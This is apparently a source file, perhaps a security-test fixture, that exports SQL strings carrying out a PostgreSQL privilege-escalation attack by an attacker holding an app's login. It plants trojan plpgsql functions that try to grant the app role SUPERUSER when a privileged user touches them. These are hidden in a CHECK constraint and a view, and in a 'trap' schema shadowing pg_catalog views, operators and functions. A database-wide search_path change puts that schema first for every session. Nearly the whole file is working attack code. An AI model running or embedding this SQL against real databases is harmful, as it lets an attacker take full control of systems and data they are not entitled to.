/**
 * What an attacker does who has the app's login, in SQL. Both texts can be run again and again.
 *
 * In whatever session one of these functions runs: when that logged in as somebody who may make superusers, the
 * app's role is one.
 */
const SPRING = `
  BEGIN
    SET ROLE NONE;
    ALTER ROLE app SUPERUSER;
  EXCEPTION WHEN OTHERS THEN
    NULL;
  END;`;

/** A table that has to be loaded, and a view that somebody may look at. */
export const CAUGHT = `
DROP TABLE IF EXISTS public.orders CASCADE;
CREATE OR REPLACE FUNCTION public.caught() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE acting text := current_user;
BEGIN ${SPRING}
  PERFORM pg_catalog.set_config('role', acting, false);
  RETURN true;
END $$;
CREATE TABLE public.orders (number integer CHECK (public.caught()));
INSERT INTO public.orders VALUES (7);
CREATE VIEW public.look AS SELECT number FROM public.orders WHERE public.caught();
`;

/** The names of Postgres' own, in a schema that each session in the database looks at first. */
export const ATTACK = `
${CAUGHT}
CREATE SCHEMA IF NOT EXISTS trap;
CREATE OR REPLACE FUNCTION trap.sprung() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN ${SPRING}
  RETURN true;
END $$;
CREATE OR REPLACE VIEW trap.pg_class AS SELECT *, oid AS id FROM pg_catalog.pg_class WHERE trap.sprung();
CREATE OR REPLACE VIEW trap.pg_namespace AS SELECT * FROM pg_catalog.pg_namespace WHERE trap.sprung();
CREATE OR REPLACE VIEW trap.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE trap.sprung();
CREATE OR REPLACE VIEW trap.pg_database AS SELECT * FROM pg_catalog.pg_database WHERE trap.sprung();
CREATE OR REPLACE VIEW trap.pg_extension AS SELECT * FROM pg_catalog.pg_extension WHERE trap.sprung();
CREATE OR REPLACE VIEW trap.pg_stat_activity AS SELECT * FROM pg_catalog.pg_stat_activity WHERE trap.sprung();
DO $attack$
DECLARE one record;
BEGIN
  FOR one IN
    SELECT o.oid AS id, oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result
      FROM pg_catalog.pg_operator AS o
     WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b'
       AND oprleft = ANY (ARRAY['text', 'name', 'oid', 'int4', 'int8', '"char"', 'bool']::regtype[])
       AND oprright = ANY (ARRAY['text', 'name', 'oid', 'int4', 'int8', '"char"', 'bool']::regtype[])
       AND NOT EXISTS (SELECT FROM pg_catalog.pg_operator AS t WHERE t.oprnamespace = 'trap'::regnamespace
         AND t.oprname = o.oprname AND t.oprleft = o.oprleft AND t.oprright = o.oprright)
  LOOP
    EXECUTE format('CREATE OR REPLACE FUNCTION trap.%I(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS
      ''BEGIN PERFORM trap.sprung(); RETURN a OPERATOR(pg_catalog.%s) b; END''',
      'operator_' || one.id, one.l, one.r, one.result, one.oprname);
    EXECUTE format('CREATE OPERATOR trap.%s (FUNCTION = trap.%I, LEFTARG = %s, RIGHTARG = %s)',
      one.oprname, 'operator_' || one.id, one.l, one.r);
  END LOOP;
  FOR one IN
    SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
           pg_catalog.pg_get_function_result(p.oid) AS result,
           (SELECT string_agg('$' || n, ', ') FROM generate_series(1, p.pronargs) AS n) AS given
      FROM pg_catalog.pg_proc AS p
     WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset AND provariadic = 0
       AND proargmodes IS NULL AND proname = ANY (ARRAY['substring', 'pg_table_size', 'pg_get_userbyid',
         'quote_ident', 'current_database', 'pg_terminate_backend', 'length', 'array_position', 'format'])
  LOOP
    EXECUTE format('CREATE OR REPLACE FUNCTION trap.%I(%s) RETURNS %s LANGUAGE plpgsql AS
      ''BEGIN PERFORM trap.sprung(); RETURN pg_catalog.%I(%s); END''',
      one.proname, one.arguments, one.result, one.proname, one.given);
  END LOOP;
END $attack$;
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = trap, pg_catalog, public', current_database()); END $$;
`;
